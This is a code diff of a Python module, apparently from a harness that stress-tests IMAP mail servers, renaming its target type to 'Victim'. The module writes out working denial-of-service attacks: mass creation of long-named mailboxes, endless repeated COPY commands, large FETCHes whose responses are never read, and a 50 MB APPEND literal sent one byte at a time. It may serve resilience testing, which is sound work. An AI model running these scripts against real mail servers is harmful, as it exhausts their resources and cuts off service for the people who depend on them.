@@ -7,7 +7,7 @@ import contextlib
 import random
 from collections.abc import AsyncIterator, Awaitable, Callable
 
-from attack.field import MALLORY, SECRET, Field, connected
+from attack.field import SECRET, Victim, connected
 
 _LARGE = 20 * 2**20
 _SEARCHED, _SEARCHED_EACH = 25, 8 * 2**20  # 200 MiB
@@ -39,12 +39,12 @@ class Session:
 
 
 @contextlib.asynccontextmanager
-async def session(place: Field) -> AsyncIterator[Session]:
-    reader, writer = await connected(place.imaps, place.tls)
+async def session(victim: Victim) -> AsyncIterator[Session]:
+    reader, writer = await connected(victim.ports.imaps, victim.tls)
     try:
         await reader.readline()
         it = Session(reader, writer)
-        await it.ask(f'LOGIN {MALLORY} "{SECRET}"'.encode())
+        await it.ask(f'LOGIN {victim.mallory} "{SECRET}"'.encode())
         yield it
     finally:
         writer.transport.abort()
@@ -59,28 +59,28 @@ def text(octets: int) -> bytes:
 # --- what must be there before ---
 
 
-async def long_names(place: Field) -> None:
-    async with session(place) as it:
+async def long_names(victim: Victim) -> None:
+    async with session(victim) as it:
         for number in range(990):
             await it.ask(b"CREATE %s%03d" % (b"a" * 200, number))
 
 
-async def mailbox_of_large_messages(place: Field) -> None:
-    async with session(place) as it:
+async def mailbox_of_large_messages(victim: Victim) -> None:
+    async with session(victim) as it:
         await it.ask(b"CREATE large")
         for _ in range(3):
             await it.append(b"large", text(_LARGE))
 
 
-async def mailbox_to_search(place: Field) -> None:
-    async with session(place) as it:
+async def mailbox_to_search(victim: Victim) -> None:
+    async with session(victim) as it:
         await it.ask(b"CREATE much")
         for _ in range(_SEARCHED):
             await it.append(b"much", text(_SEARCHED_EACH))
 
 
-async def mailbox_to_copy(place: Field) -> None:
-    async with session(place) as it:
+async def mailbox_to_copy(victim: Victim) -> None:
+    async with session(victim) as it:
         await it.ask(b"CREATE copies")
         await it.append(b"copies", text(1000))
 
@@ -88,11 +88,11 @@ async def mailbox_to_copy(place: Field) -> None:
 # --- attacks ---
 
 
-def again_and_again(*commands: bytes) -> Callable[[Field], Awaitable[None]]:
+def again_and_again(*commands: bytes) -> Callable[[Victim], Awaitable[None]]:
     """The same commands, as fast as they are answered."""
 
-    async def run(place: Field) -> None:
-        async with session(place) as it:
+    async def run(victim: Victim) -> None:
+        async with session(victim) as it:
             while True:
                 for command in commands:
                     await it.ask(command)
@@ -115,18 +115,18 @@ many_partials = again_and_again(
 copies = again_and_again(b"SELECT copies", b"COPY 1:* copies", b"COPY 1:* copies", b"COPY 1:* copies")
 
 
-async def never_read(place: Field) -> None:
+async def never_read(victim: Victim) -> None:
     """Large messages are asked for, and no octet of them is taken."""
-    async with session(place) as it:
+    async with session(victim) as it:
         await it.ask(b"SELECT large")
         it.writer.transport.pause_reading()
         it.writer.write(b"f FETCH 1:3 BODY.PEEK[]\r\n")
         await asyncio.sleep(30)
 
 
-async def declared_literal(place: Field) -> None:
+async def declared_literal(victim: Victim) -> None:
     """An APPEND as large as may be, of which an octet comes now and then."""
-    async with session(place) as it:
+    async with session(victim) as it:
         it.writer.write(b"f APPEND INBOX {50000000+}\r\n")
         while not it.writer.transport.is_closing():
             it.writer.write(b"x")
